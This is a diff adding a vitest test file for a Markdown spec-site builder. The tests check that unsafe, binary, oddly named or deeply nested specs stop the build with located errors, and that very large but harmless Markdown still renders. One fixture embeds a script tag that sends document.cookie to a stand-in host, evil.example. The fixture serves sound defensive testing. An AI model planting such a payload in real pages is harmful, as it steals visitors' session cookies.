@@ -1,0 +1,138 @@
+/**
+ * Hostile files through the real build (the held-out files go through it too), written to temp
+ * folders at test time so no binary file sits in the repository:
+ * - unsafe HTML, a binary file, an upper-case extension and runaway nesting stop the build with
+ *   located errors and no page written;
+ * - huge but harmless Markdown (5,000-level nesting, 10,000 headings, a 100 KB line, a 5 MB file
+ *   with the size limit raised) builds, every page there; `npm run check` takes the 5 MB file too.
+ */
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, relative } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { buildSpecsDir, ROOT, type BuiltSite } from '../helpers/build-fixture.ts';
+import { element } from '../helpers/html.ts';
+import { buildSpec, columnOf, lineOf } from '../helpers/spec-builder.ts';
+
+const valid = (feature: string, extra?: string) =>
+	buildSpec({ feature, status: 'Draft', lastUpdated: '2026-11-20', ...(extra ? { extraSections: [{ title: 'Appendix', body: extra }] } : {}) });
+
+function writeFolder(files: Record<string, string | Uint8Array>): string {
+	const dir = mkdtempSync(join(tmpdir(), 'specbook-hostile-build-'));
+	for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
+	return dir;
+}
+
+const folders: string[] = [];
+const sites: BuiltSite[] = [];
+afterAll(() => {
+	for (const site of sites) site.cleanup();
+	for (const dir of folders) rmSync(dir, { recursive: true, force: true });
+});
+
+describe('unsafe or unreadable specs stop the build', () => {
+	const xss = valid('Retry dashboard').replace('- **Context**:', '- **Context**: See <script>fetch("https://evil.example/?c=" + document.cookie)</script> and');
+	const deep = valid('Runaway nesting', `${'> '.repeat(20_000)}x`);
+	let site: BuiltSite;
+	let dir: string;
+
+	beforeAll(async () => {
+		dir = writeFolder({
+			'good.md': valid('Good spec'),
+			'xss.md': xss,
+			'Upper.MD': valid('Upper case'),
+			'binary.md': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]),
+			'deep.md': deep,
+		});
+		folders.push(dir);
+		site = await buildSpecsDir(dir);
+		sites.push(site);
+	}, 180_000);
+
+	const path = (name: string) => `${relative(ROOT, dir)}/${name}`;
+
+	test('with every error located, as check prints it', () => {
+		expect(site.exitCode).not.toBe(0);
+		const scriptLine = lineOf(xss, '<script>');
+		expect(site.output).toContain(`${path('xss.md')}:${scriptLine}:${columnOf(xss, scriptLine, '<script>')}: error html-unsafe Unsafe HTML: <script> can run script`);
+		expect(site.output).toContain(`${path('Upper.MD')}:1:1: error file-extension `);
+		expect(site.output).toContain(`${path('binary.md')}:3:1: error file-encoding `);
+		expect(site.output).toContain(`${path('deep.md')}:${lineOf(deep, '> > >')}:1: error markdown-too-complex `);
+		expect(site.output).not.toContain(`${path('good.md')}:`);
+		// Located lines, not a stack trace.
+		expect(site.output).not.toMatch(/\n\s+at .+\(.+:\d+:\d+\)/);
+	});
+
+	test('and no page is written', () => {
+		expect(site.files().filter((file) => /\.(html|json|xml)$/.test(file))).toEqual([]);
+	});
+});
+
+const paragraph = (index: number) =>
+	`Paragraph ${index}: the **ledger** keeps _every_ posting, see [the runbook](https://example.com/runbook/${index}) and \`ledger-svc\`.\n\n- Item ${index}\n  - Nested under ${index}\n\n| a | b |\n| - | - |\n| ${index} | x |\n`;
+/** A valid Draft of a little over 5 MB of ordinary Markdown. */
+const fiveMegabytes = () => valid('Five megabytes', Array.from({ length: 26_000 }, (_, index) => paragraph(index)).join('\n'));
+
+describe('huge but harmless specs build', () => {
+	const headings = Array.from({ length: 10_000 }, (_, index) => `### Note ${index}\n\nText ${index}.`).join('\n\n');
+	let site: BuiltSite;
+
+	beforeAll(async () => {
+		const big = fiveMegabytes();
+		expect(Buffer.byteLength(big)).toBeGreaterThan(5_000_000);
+		const dir = writeFolder({
+			'nested.md': valid('Nested 5000', `${'- '.repeat(5_000)}innermost`),
+			'headings.md': valid('Ten thousand headings', headings),
+			'long-line.md': valid('Long line', `${'lorem ipsum '.repeat(8_700)}end of line`),
+			'five-mb.md': big,
+		});
+		folders.push(dir);
+		// This config raises the size limit to 6 MB (maxFileBytes).
+		site = await buildSpecsDir(dir, { config: 'test/fixtures/large/astro.config.mjs' });
+		sites.push(site);
+		if (site.exitCode !== 0) throw new Error(`The build failed:\n${site.output}`);
+	}, 240_000);
+
+	test('the 5,000-level list is rendered to its innermost item', () => {
+		const body = element(site.read('/specs/nested/'), /<div class="spec-body/) ?? '';
+		expect(body).toContain(`${'<ul>\n<li>\n'.repeat(4_999)}<ul>\n<li>innermost</li>`);
+	});
+
+	test('every one of 10,000 headings gets its anchor; the 100 KB line and the 5 MB spec are there', () => {
+		const page = site.read('/specs/headings/');
+		expect(page).toContain('id="note-0"');
+		expect(page).toContain('id="note-9999"');
+		expect(site.read('/specs/long-line/')).toContain('end of line');
+		expect(site.read('/specs/five-mb/')).toContain('Paragraph 25999');
+	});
+});
+
+describe('npm run check on a 5 MB spec', () => {
+	const check = (cwd: string) =>
+		spawnSync(join(ROOT, 'node_modules/.bin/node'), [join(ROOT, 'src/cli/check.ts'), '--no-git'], { cwd, encoding: 'utf8', timeout: 120_000 });
+	let dir: string;
+
+	beforeAll(() => {
+		dir = mkdtempSync(join(tmpdir(), 'specbook-hostile-check-'));
+		folders.push(dir);
+		mkdirSync(join(dir, 'specs'));
+		writeFileSync(join(dir, 'specs/five-mb.md'), fiveMegabytes());
+	});
+
+	test('is over the default limit: a located error', () => {
+		const run = check(dir);
+		expect(run.status).toBe(1);
+		expect(run.stdout).toMatch(/^specs\/five-mb\.md:1:1: error file-too-large The file is \d+ bytes, over the limit of 1000000 bytes\./m);
+	});
+
+	test('with maxFileBytes raised in specbook.config.ts, it is parsed and valid', () => {
+		const config = pathToFileURL(join(ROOT, 'src/integration/config.ts')).href;
+		writeFileSync(join(dir, 'specbook.config.ts'), `import { defineSpecbookConfig } from '${config}';\nexport default defineSpecbookConfig({ maxFileBytes: 6_000_000 });\n`);
+		const run = check(dir);
+		expect(run.stderr).toBe('');
+		expect(run.stdout).toContain('1 spec checked: no problems.');
+		expect(run.status).toBe(0);
+	});
+});
